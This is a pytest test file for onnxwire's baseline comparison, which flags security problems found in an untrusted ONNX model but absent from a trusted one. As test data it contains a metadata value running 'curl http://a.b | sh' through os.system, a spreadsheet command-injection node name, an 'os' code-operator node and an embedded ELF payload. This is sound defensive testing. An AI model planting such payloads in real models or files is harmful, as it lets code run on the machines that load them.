"""`check(baseline=...)`: problems that a trusted model does not have, whatever the names."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from check_case import FLOAT, model, value

import onnxwire
from onnxwire.cli import main

ROOT = Path(__file__).parents[2]
DIGITS = ROOT / "examples" / "digits_cnn.onnx"
CUSTOM = "opset_import { version: 17 } opset_import { domain: 'my.ops' version: 1 }"
BODY = f"""
    input {{ {value("x")} }} output {{ {value("y")} }}
    node {{ op_type: "Relu" name: "first" input: "x" output: "a" }}
    node {{ op_type: "PyOp" domain: "my.ops" name: "run" input: "a" output: "b"
            attribute {{ name: "module" type: STRING s: "harmless" }} }}
    node {{ op_type: "Sigmoid" name: "last" input: "b" output: "y" }}
"""


def parsed(graph=BODY, opset=CUSTOM, rest=""):
    return onnxwire.from_text(model(graph, opset=opset, rest=rest))


def new_rules(old, new, **options):
    """Return the rules of the problems that only the second model has, as a sorted list."""
    problems = onnxwire.check(new, untrusted=True, baseline=old, **options)
    return sorted(problem.rule for problem in problems)


def edited(old, change):
    new = onnxwire.ModelProto.FromString(old.SerializeToString())
    change(new)
    return new


def renamed(old):
    """Return a copy in which every node and value has another name and nodes are stored in reverse."""
    new = onnxwire.ModelProto.FromString(old.SerializeToString())
    values = {name for node in new.graph.node for name in [*node.input, *node.output] if name}
    onnxwire.rename_values(new, {name: f"v{i}" for i, name in enumerate(sorted(values))})
    for index, node in enumerate(new.graph.node):
        node.name = f"node{index}"
    return new


@pytest.mark.parametrize("make", [parsed, lambda: onnxwire.load(DIGITS)], ids=["custom", "digits"])
def test_a_copy_has_no_problem_of_the_trusted_model(make):
    trusted = make()
    known = onnxwire.check(trusted, untrusted=True)
    assert known
    for new in (trusted, edited(trusted, lambda new: None), renamed(trusted)):
        problems = onnxwire.check(new, untrusted=True, baseline=trusted)
        assert problems == []
        assert problems.in_baseline == len(onnxwire.check(new, untrusted=True))


def test_a_check_without_a_baseline_counts_none():
    assert onnxwire.check(parsed()).in_baseline is None


def test_an_added_attack_is_reported_and_the_known_one_is_not():
    def change(new):
        new.graph.node[2].input[0] = "c"
        node = new.graph.node.add(op_type="PyOp", domain="my.ops", name="evil", input=["b"], output=["c"])
        node.attribute.add(name="module", type=3, s=b"os")

    new = renamed(edited(parsed(), change))
    problems = [
        (problem.rule, problem.path)
        for problem in onnxwire.check(new, untrusted=True, baseline=parsed(), select="security-code-operator")
    ]
    assert problems == [("security-code-operator", "graph.node[3]")]


@pytest.mark.parametrize(
    "change",
    [
        lambda new: new.graph.node[1].attribute[0].__setattr__("s", b"os"),
        lambda new: new.graph.node[1].__setattr__("domain", "my.operators"),
        lambda new: new.graph.node[1].input.__setitem__(0, "x"),
        lambda new: new.graph.node[0].__setattr__("op_type", "Elu"),
    ],
    ids=["attribute", "domain", "input", "operator before it"],
)
def test_a_problem_of_a_changed_part_is_reported(change):
    assert "security-code-operator" in new_rules(parsed(), edited(parsed(), change))


def test_a_problem_far_behind_a_change_is_not_reported():
    chain = "".join(f'node {{ op_type: "Relu" input: "c{i}" output: "c{i + 1}" }}' for i in range(5))
    graph = BODY.replace('input: "x" output: "a"', 'input: "x" output: "c0"').replace('input: "a"', 'input: "c5"')
    trusted = parsed(graph + chain)
    new = edited(trusted, lambda new: new.graph.node[0].__setattr__("op_type", "Elu"))
    assert "security-code-operator" not in new_rules(trusted, new)


def test_a_second_copy_of_a_known_attack_is_reported():
    def change(new):
        new.graph.node.append(new.graph.node[1])
        new.graph.node[3].output[0] = "unused"

    assert new_rules(parsed(), edited(parsed(), change)).count("security-code-operator") == 1


def test_texts_and_names_are_compared_as_they_are():
    rest = "metadata_props { key: 'loader' value: 'import os; os.system(\"make\")' }"
    trusted = parsed(rest=rest)
    assert new_rules(trusted, renamed(trusted)) == []
    other = edited(trusted, lambda new: new.metadata_props[0].__setattr__("value", 'os.system("curl http://a.b | sh")'))
    assert "security-payload-text" in new_rules(trusted, other)

    named = edited(parsed(), lambda new: new.graph.node[0].__setattr__("name", "=1+1"))
    worse = edited(parsed(), lambda new: new.graph.node[0].__setattr__("name", "=cmd|' /C calc'!A0"))
    assert new_rules(named, named) == []
    assert "security-name-injection" in new_rules(named, worse)


def test_records_are_compared_by_their_bytes():
    trusted = parsed().SerializeToString() + bytes.fromhex("fa3e04") + b"abcd"
    other = trusted[:-4] + b"efgh"
    assert new_rules(onnxwire.ModelProto.FromString(trusted), onnxwire.ModelProto.FromString(trusted)) == []
    assert "security-wire-unknown-content" in new_rules(
        onnxwire.ModelProto.FromString(trusted), onnxwire.ModelProto.FromString(other)
    )


def test_payloads_are_compared_whatever_their_size():
    program = b"\x7fELF\2\1\1" + bytes(300_001)
    graph = BODY + "initializer { name: 'w' data_type: 2 dims: 300008 }"

    def with_payload(raw):
        return edited(parsed(graph), lambda new: new.graph.initializer[0].__setattr__("raw_data", raw))

    trusted = with_payload(program)
    assert new_rules(trusted, renamed(trusted)) == []
    assert "security-payload-tensor" in new_rules(trusted, with_payload(program[:-1] + b"x"))


def test_nested_graphs_and_functions_are_compared():
    branch = f"""graph {{ name: "g" input {{ {value("x")} }} output {{ {value("y")} }}
        node {{ op_type: "PyOp" domain: "my.ops" input: "x" output: "y" }} }}"""
    nested = branch.removeprefix("graph").replace(f"input {{ {value('x')} }}", "")
    graph = f"""
        input {{ {value("x")} }} input {{ name: "c" {FLOAT.replace("elem_type: 1", "elem_type: 9")} }}
        output {{ {value("z")} }}
        node {{ op_type: "If" input: "c" output: "z"
                attribute {{ name: "then_branch" type: GRAPH g {nested} }}
                attribute {{ name: "else_branch" type: GRAPH g {nested} }} }}
    """
    function = """functions { name: "f" domain: "my.ops" input: "x" output: "y" opset_import { version: 17 }
        opset_import { domain: "my.ops" version: 1 }
        node { op_type: "PyOp" domain: "my.ops" input: "x" output: "y" } }"""
    trusted = parsed(graph, rest=function)
    assert onnxwire.check(trusted, untrusted=True, select="security-code-operator").counts()["error"] == 3
    assert new_rules(trusted, trusted) == []
    evil = edited(
        trusted, lambda new: new.graph.node[0].attribute[1].g.node[0].attribute.add(name="m", type=3, s=b"os")
    )
    assert new_rules(trusted, evil, select="security-code-operator") == ["security-code-operator"]


def test_a_limit_applies_to_new_problems():
    def change(new):
        for i in range(5):
            new.graph.node.add(op_type="PyOp", domain="my.ops", input=["a"], output=[f"u{i}"])

    new = edited(parsed(), change)
    problems = onnxwire.check(new, untrusted=True, baseline=parsed(), select="security-code-operator", limit=2)
    assert len(problems) == 2 and problems.omitted == {"security-code-operator": 3} and problems.in_baseline == 1


def test_rules_without_the_option_have_a_baseline_too():
    trusted = parsed(BODY + 'node { op_type: "Relu" input: "x" output: "a" }')
    assert onnxwire.check(trusted, select="error")
    assert onnxwire.check(renamed(trusted), select="error", baseline=trusted) == []


@pytest.mark.parametrize("damaged", ["baseline", "source"])
def test_damage_of_either_model_is_an_error(damaged, tmp_path):
    path = tmp_path / "damaged.onnx"
    path.write_bytes(DIGITS.read_bytes()[:-5])
    models = (path, DIGITS) if damaged == "baseline" else (DIGITS, path)
    with pytest.raises(onnxwire.DecodeError, match=r"damaged\.onnx"):
        onnxwire.check(models[1], untrusted=True, baseline=models[0])


def test_names_that_are_no_text_are_compared():
    broken = onnxwire.ModelProto.FromString(parsed().SerializeToString().replace(b"first", b"fi\xffst"))
    assert new_rules(broken, broken) == []
    assert new_rules(parsed(), broken) == ["model-strings-utf8", "name-c90-identifier"]


def test_a_baseline_is_a_model():
    with pytest.raises(TypeError, match="ModelProto"):
        onnxwire.check(parsed(), baseline=onnxwire.GraphProto())
    with pytest.raises(TypeError, match="ModelProto"):
        onnxwire.check(onnxwire.GraphProto(), baseline=parsed())


def test_an_absent_baseline_is_an_error(tmp_path):
    with pytest.raises(onnxwire.SourceError, match=r"absent\.onnx"):
        onnxwire.check(DIGITS, baseline=tmp_path / "absent.onnx")


@pytest.fixture
def pair(tmp_path):
    """Return the paths of a trusted model and of one with an attack."""
    onnxwire.save(parsed(), tmp_path / "old.onnx")
    add = {"op_type": "PyOp", "domain": "my.ops", "input": ["b"], "output": ["u"]}
    onnxwire.save(edited(parsed(), lambda new: new.graph.node.add(**add)), tmp_path / "new.onnx")
    return str(tmp_path / "old.onnx"), str(tmp_path / "new.onnx")


def test_the_command_reports_new_problems_only(pair, capsys):
    old, new = pair
    options = ["--untrusted", "--select", "security-code-operator", "--baseline", old]
    assert main(["check", old, *options]) == 0
    assert capsys.readouterr().out == ""
    assert main(["check", new, *options, "--json"]) == 1
    (file,) = json.loads(capsys.readouterr().out)
    assert [problem["path"] for problem in file["problems"]] == ["graph.node[3]"] and file["in_baseline"] == 1
    assert main(["check", new, *options, "--sarif"]) == 1
    (result,) = json.loads(capsys.readouterr().out)["runs"][0]["results"]
    assert result["baselineState"] == "new"


def test_the_command_refuses_a_file_that_is_no_baseline(pair, capsys, tmp_path):
    old, _ = pair
    assert main(["check", old, "--baseline", str(tmp_path / "absent.onnx")]) == 2
    assert "absent.onnx" in capsys.readouterr().err
    for options in (["--baseline", "-"], ["--baseline", old, "--type", "GraphProto"]):
        with pytest.raises(SystemExit):
            main(["check", old, *options])


def test_a_check_without_a_baseline_imports_no_matching():
    code = "import sys, onnxwire; onnxwire.check(sys.argv[1]); print('onnxwire.analysis.flat_graph' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code, DIGITS], capture_output=True, text=True, check=True)
    assert done.stdout == "False\n"
